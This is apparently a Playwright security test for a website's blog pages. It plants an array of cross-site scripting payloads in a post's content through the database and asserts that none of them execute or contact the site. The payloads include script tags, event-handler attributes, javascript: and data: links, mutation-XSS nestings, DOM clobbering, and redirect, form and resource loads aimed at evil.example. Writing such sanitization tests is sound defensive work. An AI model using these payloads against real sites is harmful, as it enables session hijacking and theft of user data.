import { type Site, startSite } from "../../support/site.ts";
import { test as base, expect, waitForHydration } from "../../support/site-test.ts";
import { withDatabase } from "../../support/staff.ts";

const test = base.extend<object, { site: Site }>({
  site: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright insists on a pattern
    async ({}, use) => {
      const site = await startSite();
      await use(site);
      await site.stop();
    },
    { scope: "worker" },
  ],
});

// The rules of the page itself must do, without the browser's second line of defence.
test.use({ bypassCSP: true });
test.describe.configure({ mode: "default" });

const attacks = [
  "<script>pwned()</script>",
  "<img src=x onerror=pwned()>",
  "<svg onload=pwned()><script>pwned()</script></svg>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
  '<a id="trap" href="javascript:pwned()">a link</a>',
  '<a href="java&#10;script:pwned()">a broken link</a>',
  '<a href=" &#1; javascript:pwned()">a hidden link</a>',
  '<a href="data:text/html,<script>parent.pwned()</script>">data</a>',
  "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>",
  "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
  '<p style="background: url(https://evil.example/pixel)">styled</p>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">',
  '<form action="https://evil.example/steal"><input name="password" autofocus onfocus=pwned()></form>',
  "<details open ontoggle=pwned()><summary>x</summary></details>",
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>"></p></noscript>',
  "<template><script>pwned()</script></template>",
  '<p id="main" class="hdr">clobbers</p><img name="getElementById" src="/icon-192.png" alt="">',
  "<video src=x onerror=pwned()></video><audio src=x onerror=pwned()></audio>",
  '<table background="javascript:pwned()"><tr><td onclick=pwned() id=cell>cell</td></tr></table>',
  "<<script>script>pwned()<</script>/script>",
  '<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>',
  "</article></main><h1>Escaped</h1><script>pwned()</script>",
];

for (const path of ["/blog/", "/BuyBlack/"]) {
  test(`a hostile body under ${path} does nothing`, async ({
    page,
    site,
    externalRequests,
    expectedErrors,
  }) => {
    expectedErrors.push(/status of 404/);
    const slug = poison(site, path === "/BuyBlack/");
    const executed: string[] = [];
    await page.exposeFunction("pwned", () => executed.push("pwned"));
    page.on("dialog", (dialog) => {
      executed.push(dialog.message());
      dialog.dismiss();
    });
    await page.goto(`${site.url}${path}${slug}`);
    await waitForHydration(page);
    const body = page.locator(".prose").first();
    await expect(body).toContainText("Still readable");
    for (const word of ["a link", "a broken link", "a hidden link", "cell", "Escaped"]) {
      await body.getByText(word).first().click();
    }
    await page.mouse.wheel(0, 3000);
    await page.waitForTimeout(500);
    expect(executed).toEqual([]);
    expect(externalRequests.filter((address) => address.includes("evil"))).toEqual([]);
    expect(new URL(page.url()).pathname).toBe(path + slug);
    await expect(page.getByRole("heading", { level: 1 })).toHaveCount(1);
    const left = await body.evaluate((element) =>
      Array.from(element.querySelectorAll("*")).flatMap((node) => [
        ...(/^(script|style|form|input|object|embed|base|meta|svg|math|template)$/i.test(
          node.tagName,
        ) && !node.closest("[aria-hidden]")
          ? [node.tagName]
          : []),
        ...node.getAttributeNames().filter((name) => name.startsWith("on")),
      ]),
    );
    expect(left).toEqual([]);
  });
}

/** Written past all checks, as somebody with access to the database could. */
function poison(site: Site, spotlight: boolean) {
  return withDatabase(site, (database) => {
    const found = database
      .prepare(
        `select id, slug from blog_posts where published = 1 and video_url is null
         and category ${spotlight ? "=" : "<>"} 'Product Spotlight' limit 1`,
      )
      .get();
    database
      .prepare("update blog_posts set content = ? where id = ?")
      .run(`${attacks.join("\n")}<p>Still readable</p>`, String(found?.id));
    return String(found?.slug);
  });
}
